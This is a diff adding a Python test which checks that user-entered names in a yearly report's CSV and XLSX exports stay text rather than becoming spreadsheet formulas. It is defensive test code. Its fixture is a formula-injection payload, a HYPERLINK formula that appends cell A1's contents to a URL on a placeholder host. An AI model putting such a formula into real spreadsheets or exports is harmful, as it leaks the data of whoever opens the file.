@@ -288,3 +288,15 @@ def test_the_dashboard_shows_the_evaluation(world: World) -> None:
     assert f"Evaluasi tahunan {YEAR}" in board
     assert f'<a class="big" href="/laporan/{YEAR}/aplikasi?hasil=tidak_berkelanjutan">2</a>' in board
     assert f'href="/laporan/{YEAR}"' in board
+
+
+def test_names_typed_by_users_stay_text_in_spreadsheets() -> None:
+    from gate.web.views.yearly_report import Table, csv_text, xlsx_bytes
+
+    hostile = '=HYPERLINK("https://contoh.invalid/?"&A1,"klik")'
+    table = Table("Aplikasi", ("Aplikasi", "Tingkat"), ((hostile, 2), ("+62 Layanan", None), ("Biasa", 3)))
+    rows = list(csv.reader(io.StringIO(csv_text(table).lstrip("\ufeff"))))
+    assert rows[1] == ["'" + hostile, "2"] and rows[2] == ["'+62 Layanan", ""] and rows[3] == ["Biasa", "3"]
+    sheet = load_workbook(io.BytesIO(xlsx_bytes([table])))["Aplikasi"]
+    assert sheet["A2"].value == hostile and sheet["A2"].data_type == "s"  # text, not a formula
+    assert sheet["B2"].value == 2 and sheet["B2"].data_type == "n"
